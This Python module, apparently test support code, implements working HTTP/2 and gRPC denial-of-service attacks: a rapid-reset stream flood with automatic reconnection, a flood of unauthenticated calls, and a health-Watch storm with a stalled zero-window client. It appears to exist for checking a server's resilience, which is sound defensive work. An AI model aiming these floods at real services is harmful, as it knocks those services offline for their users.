"""Attacks that ask for too much too often."""

import time
from collections.abc import Callable
from contextlib import suppress

from support.attacks.frames import Connection, message, request

_WATCH = "/grpc.health.v1.Health/Watch"


def rapid_reset(
    address: str,
    path: str,
    a_second: float,
    seconds: float,
    source: str = "127.0.0.1",
    token: str | None = None,
    body: bytes = b"",
) -> int:
    """Open calls and take them back at once, on a new connection whenever one is closed.

    `body` is what is sent in between.
    """
    block = request(path, token)

    def call(connection: Connection) -> None:
        stream = connection.open(block)
        if body:
            connection.data(stream, body)
        connection.reset(stream)

    return flood(address, a_second, seconds, source, call)


def rapid_reset_until_shut_out(
    address: str,
    path: str,
    a_second: float,
    seconds: float,
    source: str,
    token: str | None = None,
    body: bytes = b"",
) -> bool:
    """Do so until the address can't connect any more; return whether that was within `seconds`."""
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        if not rapid_reset(address, path, a_second, 0.5, source, token, body):
            return True
    return False


def refused_calls(
    address: str, path: str, a_second: float, seconds: float, source: str = "127.0.0.1"
) -> int:
    """Make calls without a token, at most 100 at once."""
    block, body = request(path), message(b"")

    def call(connection: Connection) -> bool:
        if connection.opened - len(connection.over) >= 100:
            return False
        connection.data(connection.open(block), body, end=True)
        return True

    return flood(address, a_second, seconds, source, call)


def flood(
    address: str,
    a_second: float,
    seconds: float,
    source: str,
    send: Callable[[Connection], bool | None],
    ahead: int = 65_536,
) -> int:
    """Send again and again, on a new connection whenever one is closed; return how often.

    `send` returns False where it has to wait; so much at most is `ahead` of what the network takes.
    """
    started = time.monotonic()
    connection = connected_again(address, source, started + seconds)
    made = 0
    while connection is not None and (past := time.monotonic() - started) < seconds:
        if connection.closed:
            connection.close()
            connection = connected_again(address, source, started + seconds)
            continue
        while made < past * a_second and connection.pending() < ahead:
            if send(connection) is False:
                break
            made += 1
        connection.pump(0.001)
    if connection is not None:
        connection.close()
    return made


def connected_again(address: str, source: str, until: float) -> Connection | None:
    """Try to connect until a time on the monotonic clock; return None if it was in vain."""
    while time.monotonic() < until:
        with suppress(OSError):
            return Connection(address, source, patience=0.2)
    return None


def watch_storm(address: str, clients: int, seconds: float, source: str = "127.0.0.1") -> int:
    """Let clients open Watches and take them back; one more never reads its own.

    It ends before when all are closed.
    """
    block, body = request(_WATCH), message(b"")
    stuck = Connection(address, source, window=0)
    stuck.data(stuck.open(block), body, end=True)
    connections = [Connection(address, source) for _ in range(clients)]
    last = dict.fromkeys(connections, 0)
    until = time.monotonic() + seconds
    made = 0
    while time.monotonic() < until and not all(one.closed for one in connections):
        for connection in connections:
            if not connection.closed and connection.pending() < 65_536:
                stream = connection.open(block)
                connection.data(stream, body, end=True)
                if last[connection]:
                    connection.reset(last[connection])
                last[connection] = stream
                made += 1
            connection.pump()
        stuck.pump()
    for connection in (*connections, stuck):
        connection.close()
    return made
